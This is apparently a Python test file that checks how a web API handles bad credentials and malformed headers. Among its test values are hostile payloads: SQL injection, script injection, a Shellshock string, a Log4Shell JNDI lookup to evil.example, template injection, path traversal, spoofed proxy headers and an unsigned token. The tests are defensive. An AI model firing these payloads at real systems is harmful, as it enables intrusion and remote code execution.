"""Malformed header fields: credentials, and all others that have a meaning."""

from tools.testing.cases import (
    ACCESS_DENIED,
    AS_ALICE,
    BAD_REQUEST,
    CREATED,
    INVALID,
    JSON,
    KEY,
    LIST,
    LIVE,
    MALFORMED,
    MARK,
    NOT_ACCEPTABLE,
    NOT_FOUND,
    OK,
    ONE,
    PAUSED,
    PAUSED_KEY,
    PRECONDITION_FAILED,
    READERS_KEY,
    SCOPE_MISSING,
    STRANGERS_KEY,
    TOKEN_INVALID,
    UNAUTHENTICATED,
    case,
    get,
    head,
    mine,
    patch,
    post,
    shown,
)

_KEY = b"X-API-Key: "
_BEARER = b"Authorization: Bearer "
_UNSIGNED = b"eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1c2VyX2FsaWNlIn0."
_SIGNED = b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyX2FsaWNlIn0.c2lnbmF0dXJl"
_TAG = b'"1"'


def _posted(*fields: bytes, body: bytes = b'{"name": "Test"}') -> bytes:
    return head(b"POST", LIST, *fields, b"Content-Length: %d" % len(body)) + body


CREDENTIALS = [
    case("none", UNAUTHENTICATED, get(LIST)),
    *(
        case(f"the key {shown(key)}", UNAUTHENTICATED, get(LIST, _KEY + key))
        for key in (
            b"",
            b"x",
            MARK,
            b"msk_",
            b"msk_" + b"0" * 36,
            KEY[:-1],
            KEY + b"0",
            KEY[:-1] + b"!",
            KEY + b" x",
            b"a" * 8000,
            b"null",
            b"undefined",
            b"*",
            b"' OR 1=1 --",
            b"\xc3\xa9" * 20,
            b"\xff" * 40,
            b'"' + KEY + b'"',
            KEY + b"," + KEY,
            b"Bearer " + KEY,
        )
    ),
    case("blanks around a good key belong to the field, not to the key", OK, get(LIST, b"X-API-Key:  " + KEY + b" \t")),
    case("a good key under a name in capitals", OK, get(LIST, b"X-API-KEY: " + KEY)),
    case("a good key in the query is none", UNAUTHENTICATED, get(LIST + b"?api_key=" + KEY)),
    case("a good key in a cookie is none", UNAUTHENTICATED, get(LIST, b"Cookie: X-API-Key=" + KEY)),
    case("a good key under another name is none", UNAUTHENTICATED, get(LIST, b"Api-Key: " + KEY)),
    case("a good key for a proxy is none", UNAUTHENTICATED, get(LIST, b"Proxy-Authorization: Bearer " + KEY)),
    case("a paused key", PAUSED, get(LIST, _KEY + PAUSED_KEY)),
    case("a paused key as Bearer", PAUSED, get(LIST, _BEARER + PAUSED_KEY)),
    case("a good key as Bearer", OK, get(LIST, _BEARER + KEY)),
    case("a good key as bEARER", OK, get(LIST, b"Authorization: bEARER " + KEY)),
    *(
        case(f"Authorization: {shown(value)}", UNAUTHENTICATED, get(LIST, b"Authorization: " + value))
        for value in (
            b"",
            b"Bearer",
            b"Bearer ",
            b"Bearer\t" + KEY,
            KEY,
            b"Basic YWxpY2U6eA==",
            b"Token " + KEY,
            b"ApiKey " + KEY,
            b"Bearer " + KEY + b" more",
            b"Bearer " + KEY + b", Bearer " + KEY,
            b"Bearer Bearer " + KEY,
            b"BearerX " + KEY,
            b"Bearer null",
            b"Bearer " + MARK,
            b"Bearer \xc3\xa9",
            b"Bearer a.b",
            b"Bearer a.b.c.d",
            b"Bearer ..",
            b'Digest username="alice"',
            b"Bearer " + b"a" * 30_000,
        )
    ),
    *(
        case(f"the token {shown(token)}", TOKEN_INVALID, get(LIST, _BEARER + token))
        for token in (_UNSIGNED, _SIGNED, b"a.b.c", b"a.b.", b"eyJ.eyJ.x", b"A" * 9000 + b".A.A")
    ),
    case("a token as the API key", TOKEN_INVALID, get(LIST, _KEY + _SIGNED)),
    case("two equal keys", BAD_REQUEST, get(LIST, AS_ALICE, AS_ALICE)),
    case("two different keys", BAD_REQUEST, get(LIST, AS_ALICE, _KEY + STRANGERS_KEY)),
    case("two Authorizations", BAD_REQUEST, get(LIST, _BEARER + KEY, _BEARER + KEY)),
    case("a good and an empty key field", BAD_REQUEST, get(LIST, AS_ALICE, _KEY)),
    case("a good key by both ways", OK, get(LIST, AS_ALICE, _BEARER + KEY)),
    case("good keys of two users", UNAUTHENTICATED, get(LIST, AS_ALICE, _BEARER + STRANGERS_KEY)),
    case("a good key and a bad Bearer", UNAUTHENTICATED, get(LIST, AS_ALICE, _BEARER + MARK)),
    case("a bad key and a good Bearer", UNAUTHENTICATED, get(LIST, _KEY + MARK, _BEARER + KEY)),
    case("a good key and an empty Authorization", UNAUTHENTICATED, get(LIST, AS_ALICE, b"Authorization:")),
    case("a good key and Basic", UNAUTHENTICATED, get(LIST, AS_ALICE, b"Authorization: Basic YTpi")),
    case("a good key and a bad token", TOKEN_INVALID, get(LIST, AS_ALICE, _BEARER + _SIGNED)),
    case("a good and a paused key", PAUSED, get(LIST, AS_ALICE, _BEARER + PAUSED_KEY)),
    case("X_API_Key beside nothing", MALFORMED, get(LIST, b"X_API_Key: " + KEY)),
    case("X_API_Key beside X-API-Key", MALFORMED, get(LIST, AS_ALICE, b"X_API_Key: " + STRANGERS_KEY)),
    case("a stranger's list", ACCESS_DENIED, get(LIST, _KEY + STRANGERS_KEY)),
    case("a stranger's item", NOT_FOUND, get(ONE, _KEY + STRANGERS_KEY)),
    case("a reader may not write", SCOPE_MISSING, _posted(_KEY + READERS_KEY, JSON)),
    case("a reader may read", OK, get(LIST, _KEY + READERS_KEY)),
    # Authentication is checked first.
    case("no key, and a body that is no JSON", UNAUTHENTICATED, _posted(JSON, body=b"{" + MARK)),
    case("no key, and another media type", UNAUTHENTICATED, _posted(b"Content-Type: text/plain")),
    case("no key, and a compressed body", UNAUTHENTICATED, _posted(JSON, b"Content-Encoding: gzip")),
    case("no key, and an unknown parameter", UNAUTHENTICATED, get(LIST + b"?" + MARK + b"=1")),
    case("no key, and a bad escape in the query", UNAUTHENTICATED, get(LIST + b"?limit=%zz")),
    case("no key, and nothing acceptable", UNAUTHENTICATED, get(LIST, b"Accept: text/html")),
    case("no key, and a bad precondition", UNAUTHENTICATED, get(ONE, b"If-None-Match: " + MARK)),
    case("a reader, and a body that is no JSON", SCOPE_MISSING, _posted(_KEY + READERS_KEY, JSON, body=b"{" + MARK)),
    case("a stranger, and a body that is no JSON", MALFORMED, _posted(_KEY + STRANGERS_KEY, JSON, body=b"{" + MARK)),
    case(
        "a stranger, and an unknown field", INVALID, _posted(_KEY + STRANGERS_KEY, JSON, body=b'{"name": "a", "x": 1}')
    ),
    case("credentials where none are needed are not looked at", OK, get(LIVE, _KEY + MARK)),
]

HEADERS = [
    *(
        case(f"Accept: {shown(value)}", NOT_ACCEPTABLE, mine(LIST, b"Accept: " + value))
        for value in (
            b"text/html",
            b"application/xml",
            b"application/*;q=0",
            b"*/*;q=0",
            b"application/json;q=0",
            b"application/json;q=0.000",
            b"application/json;q=0, */*",
            b"text/*, image/png",
            b"application/jso",
            b"application/jsonx",
            b"application",
            b"json",
            b"*",
            b"application/",
            b"/json",
            MARK,
            b"\xe9",
            b"," * 500,
            b";" * 500,
            b"text/html" + b", text/html" * 1000,
        )
    ),
    *(
        case(f"Accept: {shown(value)}", OK, mine(LIST, b"Accept: " + value))
        for value in (
            b"",
            b"*/*",
            b"application/*",
            b"application/json",
            b"APPLICATION/JSON",
            b"application/json; charset=utf-8",
            b"text/html, application/json",
            b"text/html,*/*;q=0.1",
            b"application/*;q=0, application/json",
            b"application/json;q=1.0",
        )
    ),
    case("Accept in two fields is one list", OK, mine(LIST, b"Accept: text/html", b"Accept: application/json")),
    case(
        "an error has its one form, whatever is accepted",
        UNAUTHENTICATED,
        get(LIST, b"Accept: application/problem+json"),
    ),
    *(
        case(
            f"Accept-Charset, -Language, -Encoding {shown(value)} change nothing",
            OK,
            mine(LIST, b"Accept-Charset: " + value, b"Accept-Language: " + value, b"Accept-Encoding: " + value),
        )
        for value in (b"utf-16", b"*;q=0", MARK)
    ),
    *(
        case(f"Range: {shown(value)} is not offered", OK, mine(LIST, b"Range: " + value))
        for value in (b"bytes=0-1", b"bytes=-1", b"items=0-" + b"9" * 30)
    ),
    *(
        case(f"If-None-Match: {shown(value)}", INVALID, mine(ONE, b"If-None-Match: " + value))
        for value in (b"", b"1", b'"1', b"W/1", b'w/"1"', b"**", b"\xe9", b'"\xe9"', b'"' + b"a" * 1100 + b'"', MARK)
    ),
    case("If-None-Match of another version", OK, mine(ONE, b'If-None-Match: "999", W/"998"')),
    case("If-None-Match of anything", OK._replace(status=304), mine(ONE, b"If-None-Match: *")),
    case("If-None-Match twice", BAD_REQUEST, mine(ONE, b'If-None-Match: "1"', b'If-None-Match: "2"')),
    *(
        case(f"If-Match: {shown(value)}", INVALID, patch(b"{}", b"If-Match: " + value))
        for value in (b"", b"1", b'"1', b'"1", "2"', b'w/"1"', b"**", b"\xe9", b'"a b"', b'"' + b"1" * 200 + b'"', MARK)
    ),
    *(
        case(f"If-Match: {shown(value)}", PRECONDITION_FAILED, patch(b"{}", b"If-Match: " + value))
        for value in (
            b'"999"',
            b'""',
            b'W/"1"',
            b'"01"',
            b'"+1"',
            b'"-1"',
            b'"1e0"',
            b'"0"',
            b'"' + b"9" * 30 + b'"',
            b'"9223372036854775808"',
            b'"\'"',
        )
    ),
    case("If-Match twice", BAD_REQUEST, patch(b"{}", b"If-Match: *", b"If-Match: *")),
    case("If_Match", MALFORMED, patch(b"{}", b"If_Match: *")),
    *(
        case(
            f"Idempotency-Key: {shown(value)}",
            INVALID,
            post(b'{"name": "a"}', b"Idempotency-Key: " + value),
        )
        for value in (b"", b"a b", b"a\tb", b"\xe9", b"a" * 256, b"\xc3\xa9" * 20)
    ),
    case("Idempotency-Key of 255 characters", CREATED, post(b'{"name": "a"}', b"Idempotency-Key: " + KEY + b"k" * 215)),
    case("Idempotency-Key that is a path", CREATED, post(b'{"name": "a"}', b"Idempotency-Key: ../../etc/passwd';--")),
    case("Idempotency-Key twice", BAD_REQUEST, post(b'{"name": "a"}', b"Idempotency-Key: a", b"Idempotency-Key: b")),
    case("Idempotency_Key", MALFORMED, post(b'{"name": "a"}', b"Idempotency_Key: a")),
    *(
        case(f"X-Request-ID: {shown(value)} is replaced", OK, get(LIVE, b"X-Request-ID: " + value))
        for value in (
            b"",
            b"short",
            b"a" * 65,
            b"a b c d e",
            b"<script>alert(1)</script>",
            b"\xe9" * 10,
            b"12345678;x",
            b"../../../etc",
        )
    ),
    case("X-Request-ID twice", BAD_REQUEST, get(LIVE, b"X-Request-ID: 12345678", b"X-Request-ID: 12345678")),
    case("X_Request_ID", MALFORMED, get(LIVE, b"X_Request_ID: 12345678")),
    case("Origin of a stranger is not reflected", OK, get(LIVE, b"Origin: https://evil.example")),
    case("Origin: null is not reflected", OK, get(LIVE, b"Origin: null")),
    case("Origin twice", BAD_REQUEST, get(LIVE, b"Origin: a", b"Origin: b")),
    case(
        "another host by a proxy's fields changes nothing",
        OK,
        get(
            LIVE,
            b"X-Forwarded-Host: evil.example",
            b"X-Forwarded-Proto: gopher",
            b"X-Forwarded-For: 1.2.3.4",
            b"Forwarded: for=x",
            b"X-Forwarded-Prefix: /evil",
        ),
    ),
    case(
        "another path by a proxy's fields changes nothing",
        OK,
        get(LIVE, b"X-Original-URL: /admin", b"X-Rewrite-URL: /admin", b"X-Script-Name: /x", b"SCRIPT_NAME: /x"),
    ),
    case(
        "fields that control a connection",
        OK,
        get(LIVE, b"Connection: X-API-Key, Host", b"Keep-Alive: timeout=99999", b"TE: trailers", b"Trailer: X-API-Key"),
    ),
    case("a cookie of 30 KiB", OK, get(LIVE, b"Cookie: a=" + b"b" * 30_000)),
    case("a shell in a field", OK, get(LIVE, b"User-Agent: () { :; }; echo " + MARK)),
    case("a lookup in a field", OK, get(LIVE, b"User-Agent: ${jndi:ldap://evil.example/a}", b"Referer: {{7*7}}")),
    case(
        "a precondition by date, which there is none of",
        OK,
        mine(ONE, b"If-Modified-Since: yesterday", b"If-Unmodified-Since: Mon, 01 Jan 1990 00:00:00 GMT"),
    ),
    case("an upgrade to https is not forced", OK, get(LIVE, b"Upgrade-Insecure-Requests: 1")),
    case(
        "a tag of one collection for another",
        PRECONDITION_FAILED,
        patch(b"{}", b"If-Match: " + _TAG.replace(b"1", b"77")),
    ),
]
